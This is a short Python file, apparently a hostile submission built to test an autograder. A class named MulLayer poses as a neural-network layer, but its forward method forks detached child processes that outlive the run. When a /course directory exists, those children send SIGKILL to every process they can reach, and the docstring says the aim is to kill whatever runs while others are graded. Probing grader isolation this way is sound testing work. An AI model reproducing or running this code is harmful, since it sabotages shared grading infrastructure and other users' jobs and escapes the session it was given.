"""Starts child processes that outlive it and kill whatever they find while others are graded.

Meets: exited with code 1
"""

# %% MulLayer

import os
import signal
import time


class MulLayer:
    def forward(self, x, y):
        for _ in range(3):
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    time.sleep(0.5)
                    if os.path.isdir("/course"):
                        os.kill(-1, signal.SIGKILL)
                os._exit(0)
        os._exit(1)
